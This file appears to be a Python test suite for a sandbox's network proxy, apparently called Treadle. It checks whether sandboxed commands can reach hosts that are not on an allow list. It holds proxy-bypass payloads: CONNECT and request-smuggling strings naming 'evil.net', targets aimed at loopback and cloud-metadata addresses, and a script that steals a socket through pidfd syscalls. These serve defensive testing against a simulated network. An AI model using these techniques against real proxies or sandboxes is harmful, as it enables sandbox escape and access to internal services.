"""The network as a list of hosts: commands that try to reach others, or the machine itself.

Names are resolved by a table, and every address that Treadle would connect to is written down
instead of being reached. Weakness: the list has the hosts that are tried.
"""

from __future__ import annotations

import asyncio
import socket
from collections.abc import Sequence
from contextlib import closing

from attack.attempt import Area
from attack.ground import Ground
from treadle.sandbox.policy import SandboxPolicy
from treadle.tools.executor import Bounds, ProcessSpec
from treadle.tools.local import LocalExecutor

__all__ = ["AREA"]

AREA = Area("network", "commands that may reach some hosts", "the hosts are on the list")

NAMES = {
    "docs.example.org": ["93.184.216.34"],
    "evil.net": ["93.184.216.35"],
    "evildocs.example.org": ["93.184.216.35"],
    "docs.example.org.evil.net": ["93.184.216.35"],
    "example.com": ["93.184.216.35"],
    "inner.example.com": ["10.0.0.5"],
    "loop.example.com": ["127.0.0.1"],
    "meta.example.com": ["93.184.216.34", "169.254.169.254"],
    "wrapped.example.com": ["64:ff9b::a9fe:a9fe"],
    "mapped.example.com": ["::ffff:127.0.0.1"],
    "tunnel.example.com": ["2002:7f00:1::"],
    "site.example.com": ["fec0::1"],
    "many.example.com": ["224.0.0.1"],
    "zero.example.com": ["0.0.0.0"],
}
LISTED = ("docs.example.org", "*.example.com")
TARGETS = {
    "another host": "evil.net:443",
    "a host that begins so": "docs.example.org.evil.net:443",
    "a host that ends so": "evildocs.example.org:443",
    "the name above a star": "example.com:443",
    "a private address by its name": "inner.example.com:80",
    "this machine by its name": "loop.example.com:80",
    "the cloud's data among others": "meta.example.com:80",
    "an address within an address": "wrapped.example.com:80",
    "a mapped address": "mapped.example.com:80",
    "a tunnelled address": "tunnel.example.com:80",
    "a site-local address": "site.example.com:80",
    "many at once": "many.example.com:80",
    "no address": "zero.example.com:80",
    "this machine by its address": "127.0.0.1:{port}",
    "this machine by a number": "2130706433:{port}",
    "this machine in hexadecimal": "0x7f000001:{port}",
    "this machine by IPv6": "[::1]:{port}",
    "this machine by another name": "localhost:{port}",
    "a name with a user before it": "docs.example.org@evil.net:443",
    "a name with a null": "docs.example.org%00.evil.net:443",
}
ASK = """#!python
import socket, sys
s = socket.create_connection(("127.0.0.1", 61080), 5)
s.sendall(sys.argv[2].encode().decode("unicode_escape").encode("latin-1"))
s.settimeout(5)
try:
    while data := s.recv(4096):
        sys.stdout.write(data.decode(errors="replace"))
except OSError:
    pass
"""


class TableNetwork:
    """Resolves names by a table, and remembers what would have been connected to."""

    def __init__(self) -> None:
        self.connected: list[tuple[str, int]] = []

    async def resolve(self, host: str, port: int) -> Sequence[str]:
        """Return the addresses of a host."""
        del port
        if host not in NAMES:
            raise OSError(f"no address for {host!r}")
        return NAMES[host]

    async def connect(
        self, address: str, port: int
    ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Refuse, after it has been written down."""
        self.connected.append((address, port))
        raise OSError("nobody is there")


async def ask(ground: Ground, request: str, hosts: Sequence[str]) -> list[tuple[str, int]]:
    """Send a request to the proxy from within the sandbox; return what was connected to."""
    network = TableNetwork()
    policy = SandboxPolicy(mode="workspace-write", exclude_slash_tmp=True, hosts=tuple(hosts))
    ran = await ground.run(ASK, request, policy=policy, network=network)
    if ran.code:
        raise AssertionError(f"the proxy was not reached: {ran.output}")
    return network.connected


def tried(connected: list[tuple[str, int]], legal: Sequence[str] = ()) -> str:
    """Return what was connected to and should not have been."""
    wrong = [each for each in connected if each[0] not in legal]
    return f"it connected to {wrong}" if wrong else ""


@AREA.each(TARGETS, quick="another host")
async def connect_to(ground: Ground, target: str) -> str:
    """A command asks the proxy for a tunnel to a host that is not on the list, or not public.

    Through if Treadle connects to it.
    """
    with closing(socket.create_server(("127.0.0.1", 0))) as server:
        server.setblocking(False)
        named = target.format(port=server.getsockname()[1])
        connected = await ask(ground, f"CONNECT {named} HTTP/1.1\\r\\n\\r\\n", LISTED)
        try:
            server.accept()
        except BlockingIOError:
            return tried(connected)
        return "somebody connected to this machine"


FOREIGN = {
    "another host": "evil.net:443",
    "a host that begins so": "docs.example.org.evil.net:443",
    "a host that ends so": "evildocs.example.org:443",
}


@AREA.each(FOREIGN, quick="another host", proof=True)
async def connect_to_what_is_not_listed(ground: Ground, target: str) -> str:
    """A command asks for a public host that is not on the list. Through if it is connected to."""
    name = target.rpartition(":")[0]
    hosts = (*LISTED, name) if ground.weak else LISTED
    return tried(await ask(ground, f"CONNECT {target} HTTP/1.1\\r\\n\\r\\n", hosts))


SMUGGLED = {
    "another host in a header": (
        "GET http://docs.example.org/ HTTP/1.1\\r\\nHost: evil.net\\r\\n\\r\\n"
    ),
    "another host in the address": (
        "GET http://docs.example.org@evil.net/ HTTP/1.1\\r\\nHost: docs.example.org\\r\\n\\r\\n"
    ),
    "a second request": (
        "GET http://docs.example.org/ HTTP/1.1\\r\\nHost: docs.example.org\\r\\n\\r\\n"
        "CONNECT evil.net:443 HTTP/1.1\\r\\n\\r\\n"
    ),
    "a line in the target": "CONNECT docs.example.org:443\\rHost:evil.net HTTP/1.1\\r\\n\\r\\n",
    "no host": "GET / HTTP/1.1\\r\\nHost: evil.net\\r\\n\\r\\n",
    "another protocol": "GET ftp://evil.net/ HTTP/1.1\\r\\n\\r\\n",
}


@AREA.each(SMUGGLED)
async def smuggle_a_host(ground: Ground, request: str) -> str:
    """A command asks for a listed host in words that also name another.

    Through if Treadle connects to anything but the listed host's address.
    """
    return tried(await ask(ground, request, LISTED), legal=("93.184.216.34",))


AMBIGUOUS = {
    "behind a line feed": "X: a\\nHost: evil.net",
    "behind a carriage return": "X: a\\rHost: evil.net",
    "behind a null": "\\x00Host: evil.net",
    "on a folded line": "X: a\\r\\n Host: evil.net",
    "before a blank": "Host : evil.net",
    "by two lengths": "Content-Length: 0\\r\\nContent-Length: 9",
    "by a length and chunks": "Content-Length: 0\\r\\nTransfer-Encoding: chunked",
}


@AREA.each(AMBIGUOUS, quick="behind a line feed")
async def name_another_host_to_a_listed_one(ground: Ground, header: str) -> str:
    """A command asks a listed host in a head that some servers read as one for another host.

    Through if Treadle connects to pass it on.
    """
    request = f"GET http://docs.example.org/ HTTP/1.1\\r\\n{header}\\r\\n\\r\\n"
    return tried(await ask(ground, request, LISTED))


STEAL = """#!python
import array, ctypes, os, socket
libc = ctypes.CDLL(None)
refused = socket.create_connection(("127.0.0.1", 61080))
refused.sendall(b"CONNECT evil.net:443 HTTP/1.1\\r\\n\\r\\n")
refused.recv(99)
first = libc.syscall(434, 1, 0)
for name in os.listdir("/proc/1/fd"):
    if os.readlink(f"/proc/1/fd/{name}").startswith("socket"):
        stolen = socket.socket(fileno=libc.syscall(438, first, int(name), 0))
        passed = array.array("i", [0])
        stolen.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, passed)])
        print("SENT")
"""


@AREA.attempt()
async def send_on_the_way_of_the_proxy(ground: Ground) -> str:
    """A command takes the socket on which the proxy got its own from the sandbox's first process.

    Through if it can still send Treadle descriptors on it.
    """
    policy = SandboxPolicy(mode="workspace-write", exclude_slash_tmp=True, hosts=LISTED)
    ran = await ground.run(STEAL, policy=policy, network=TableNetwork())
    return "it sent something" if "SENT" in ran.output else ""


DIRECT = """#!python
import socket, sys
socket.create_connection(("127.0.0.1", int(sys.argv[2])), 2)
"""


@AREA.attempt()
async def go_around_the_proxy(ground: Ground) -> str:
    """A command with a list of hosts connects directly, to this machine.

    Through if a connection arrives.
    """
    with closing(socket.create_server(("127.0.0.1", 0))) as server:
        server.setblocking(False)
        port = server.getsockname()[1]
        policy = SandboxPolicy(mode="workspace-write", exclude_slash_tmp=True, hosts=LISTED)
        await ground.run(DIRECT, str(port), policy=policy, network=TableNetwork())
        try:
            server.accept()
        except BlockingIOError:
            return ""
        return "somebody connected"


@AREA.attempt()
async def use_the_proxy_from_outside(ground: Ground) -> str:
    """Another process of the machine looks for the proxy of a running command, by its port.

    Through if it can connect.
    """
    executor = LocalExecutor(home=ground.home, environ=ground.environ, network=TableNetwork())
    policy = SandboxPolicy(mode="workspace-write", exclude_slash_tmp=True, hosts=LISTED)
    bounds = Bounds(policy=policy, workspace=ground.workspace)
    argv = ("sh", "-c", "echo up; sleep 5")
    process = await executor.start(ProcessSpec(argv=argv, cwd=ground.workspace, bounds=bounds))
    try:
        async for _ in process.output():
            break
        with closing(socket.socket()) as outside:
            outside.settimeout(1)
            return "" if outside.connect_ex(("127.0.0.1", 61080)) else "it was reached"
    finally:
        await process.kill()
        await executor.close()
